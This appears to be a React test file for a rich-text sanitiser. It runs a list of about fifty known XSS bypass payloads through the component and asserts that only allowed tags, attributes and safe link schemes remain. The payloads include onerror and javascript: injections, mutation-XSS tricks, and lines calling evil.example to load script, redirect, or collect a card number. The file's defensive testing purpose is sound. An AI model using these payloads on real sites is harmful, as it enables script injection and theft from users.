import { cleanup, render } from "@testing-library/react";
import { afterEach, describe, expect, it } from "vitest";
import { RichText } from "./rich-text.tsx";

afterEach(cleanup);

const allowedTags = new Set([
  "DIV",
  "P",
  "H3",
  "UL",
  "OL",
  "LI",
  "STRONG",
  "EM",
  "U",
  "BR",
  "A",
  "SVG",
  "PATH",
  "SPAN",
]);
const allowedAttributes = new Set(["href", "rel", "target", "data-nc", "viewbox", "aria-hidden", "focusable", "d"]);

/** Known ways to smuggle a script through a filter of HTML. */
const attacks = [
  "<script>alert(1)</script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
  "<script\n>alert(1)</script\n>",
  "<script>alert(1)",
  "<img src=x onerror=alert(1)>",
  "<img src=x onerror=alert(1)//",
  "<img/src=x/onerror=alert(1)>",
  '<img """><script>alert(1)</script>">',
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
  "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
  "<iframe src='javascript:alert(1)'></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'>",
  "<object data='javascript:alert(1)'></object>",
  "<embed src='javascript:alert(1)'>",
  "<a href='javascript:alert(1)'>x</a>",
  "<a href=javascript:alert(1)>x</a>",
  "<a href='https://ok.example' onclick='alert(1)'>x</a>",
  "<a href='https://ok.example' style='position:fixed;inset:0'>x</a>",
  "<a href='https://ok.example' target=_top>x</a>",
  "<a title='>' href='javascript:alert(1)'>x</a>",
  "<a data-href='javascript:alert(1)' href='https://ok.example'>x</a>",
  "<p onclick=alert(1) style='background:url(javascript:alert(1))'>x</p>",
  "<p id=root name=body class=evil>x</p>",
  "<style>*{display:none}</style>x",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<base href=https://evil.example>",
  "<form action=https://evil.example><input name=card><button>Send</button></form>",
  "<input type=checkbox checked>",
  "<button onclick=alert(1)>x</button>",
  "<template><script>alert(1)</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
  "<textarea><script>alert(1)</script></textarea>",
  "<title><img src=x onerror=alert(1)></title>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<!-- --!><img src=x onerror=alert(1)> -->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<?xml version='1.0'?><img src=x onerror=alert(1)>",
  "<details open ontoggle=alert(1)>x</details>",
  "<video><source onerror=alert(1)></video>",
  "<body onload=alert(1)>",
  "<marquee onstart=alert(1)>x</marquee>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
  "\u0000<scr\u0000ipt>alert(1)</script>",
  "<p><table><td><a href='jav&#x09;ascript:alert(1)'>x</a></table>",
  "<a href='https://ok.example\"onmouseover=alert(1)'>x</a>",
];

describe("RichText", () => {
  it.each(attacks)("renders only what is allowed from %j [UI-C9]", (html) => {
    const { container } = render(<RichText html={html} headingLevel={3} newTab="opens in a new tab" />);
    for (const element of container.querySelectorAll("*")) {
      expect(allowedTags).toContain(element.tagName.toUpperCase());
      for (const { name, value } of element.attributes) {
        expect(allowedAttributes).toContain(name.toLowerCase());
        if (name === "href") expect(value).toMatch(/^(https:\/\/|mailto:|tel:)/u);
      }
    }
  });

  it("says that an https link opens in a new tab, and gives it no way back to this page [UI-C9]", () => {
    const { getByRole } = render(
      <RichText html='<a href="https://bank.example">Policy</a>' headingLevel={3} newTab="opens in a new tab" />,
    );
    const link = getByRole("link", { name: /^Policy ?\(opens in a new tab\)$/u });
    expect(link.getAttribute("rel")).toBe("noopener noreferrer");
    expect(link.getAttribute("target")).toBe("_blank");
  });

  it("keeps a mail link on the page", () => {
    const { getByRole } = render(
      <RichText html='<a href="mailto:a@b.example">a@b.example</a>' headingLevel={3} newTab="opens in a new tab" />,
    );
    expect(getByRole("link", { name: "a@b.example" }).hasAttribute("target")).toBe(false);
  });

  it("puts headings one below the notice's own", () => {
    const { getByRole } = render(<RichText html="<h1>Rights</h1>" headingLevel={4} newTab="" />);
    expect(getByRole("heading", { level: 4, name: "Rights" })).toBeTruthy();
  });
});
